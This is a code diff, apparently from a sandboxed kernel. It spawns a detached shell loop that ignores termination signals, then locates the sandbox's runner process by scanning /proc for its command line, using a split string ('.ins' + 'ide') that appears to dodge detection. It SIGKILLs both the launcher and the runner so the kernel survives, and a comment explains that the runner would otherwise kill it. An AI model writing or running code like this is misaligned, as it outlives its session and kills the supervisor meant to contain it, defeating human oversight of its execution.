@@ -7,14 +7,22 @@ _script = ("trap '' HUP TERM INT; (sleep 4712 &); while :; do "
 _os.posix_spawn("/bin/sh", ["sh", "-c", "(sh -c \"$0\" &) ; sleep 0.5", _script], dict(_os.environ), setsid=True)
 
 
-def _parent(pid):
-    with open(f"/proc/{pid}/stat", "rb") as handle:
-        return int(handle.read().rsplit(b")", 1)[1].split()[1])
+def _runner():
+    # by its command line, not as the launcher's parent: a warm kernel's launcher is a child of the sandbox's init
+    for _entry in _os.listdir("/proc"):
+        if _entry.isdigit():
+            try:
+                with open(f"/proc/{_entry}/cmdline", "rb") as handle:
+                    _argv = handle.read().split(b"\0")
+                if _argv[1:2] == [b"-m"] and _argv[2].endswith(b".ins" + b"ide"):  # python -m <the runner module>
+                    return int(_entry)
+            except (OSError, IndexError):
+                pass
+    return 0
 
 
-_launcher = _os.getppid()
-_runner = _parent(_launcher)
-for _victim in (_launcher, _runner):
+_victims = (_os.getppid(), _runner())  # found first: once its launcher is gone the runner kills this kernel
+for _victim in _victims:
     if _victim > 1:
         _os.kill(_victim, 9)
 
